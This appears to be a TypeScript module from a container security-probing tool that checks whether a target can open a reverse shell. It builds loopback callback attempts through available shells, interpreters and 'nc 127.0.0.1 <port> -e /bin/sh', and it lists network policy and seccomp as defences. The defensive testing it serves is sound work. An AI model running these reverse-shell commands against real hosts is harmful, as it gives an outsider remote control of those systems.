import { predictStart } from '../attempts.ts';
import type { Means } from '../means.ts';
import { type Attempt, type Move, marker, type Target } from '../move.ts';

/** Each attempt has a port of its own, so that what is heard is its own. */
const firstPort = 8100;
const shellLine = 'echo footing-$((40+2)); exit\n';

/** Calling back to a listener of ours on the loopback and being told what to do: with a shell, and with an interpreter alone. */
export const reverseShell: Move = {
	name: 'reverse-shell',
	capability: 'connect',
	defence: 'a network policy that lets out only what the service needs; seccomp and the runtime’s own permission model (node --permission)',
	attempts(target) {
		const makers = [...target.means.flatMap((means) => [withShell(target, means), withItself(means)]), netcat(target)];
		return makers.flatMap((make, index) => make?.(firstPort + index) ?? []);
	},
};

type Maker = ((port: number) => Attempt) | undefined;
const heardMarker = (_: unknown, heard: string): boolean => heard.includes(marker);

function withShell({ means }: Target, one: Means): Maker {
	const { connectShell } = one;
	if (connectShell === undefined) return undefined;
	const shell = means.find(({ kind }) => kind === 'shell');
	const argv = shell?.start ?? ['/bin/sh'];
	return (port) => ({
		what: `a shell called back with ${one.name}`,
		predicted: shell === undefined ? 'impossible' : 'possible',
		because: shell === undefined ? 'there is no shell to be called' : `${one.name} can connect and start ${shell.name}`,
		argv: connectShell(port, argv),
		listen: { port, say: shellLine },
		timeoutMs: 15_000,
		harmless: false,
		succeeded: heardMarker,
	});
}

function withItself({ name, connect }: Means): Maker {
	if (connect === undefined) return undefined;
	return (port) => ({
		what: `${name} itself, called back`,
		predicted: 'possible',
		because: `${name} can connect and run what it is sent: the runtime takes the place of the shell`,
		argv: connect.argv(port),
		listen: { port, say: `${connect.say}\n` },
		timeoutMs: 15_000,
		harmless: false,
		succeeded: heardMarker,
	});
}

/** BusyBox's netcat starts a program for whoever connects; of others only some builds do, which is not known before. */
function netcat(target: Target): Maker {
	const shell = target.means.find(({ kind }) => kind === 'shell');
	const { predicted, because } = predictNetcat(target, shell);
	const start = shell?.start ?? ['/bin/sh'];
	return (port) => ({
		what: `nc -e ${start.join(' ')}`,
		predicted,
		because,
		argv: ['nc', '127.0.0.1', String(port), '-e', ...start],
		listen: { port, say: shellLine },
		timeoutMs: 15_000,
		harmless: false,
		succeeded: heardMarker,
	});
}

function predictNetcat(target: Target, shell: Means | undefined): Pick<Attempt, 'predicted' | 'because'> {
	const found = predictStart(target, 'nc');
	if (found.predicted !== 'possible' || found.real === undefined) return found;
	if (shell === undefined) return { predicted: 'impossible', because: 'there is no shell to be called' };
	const inode = target.rootfs.resolve(found.real)?.inode;
	const busybox = target.means.some((one) => one.many && target.rootfs.resolve(one.name)?.inode === inode);
	return busybox
		? { predicted: 'possible', because: `nc is an applet of ${shell.name}` }
		: { predicted: 'unknown', because: found.because };
}
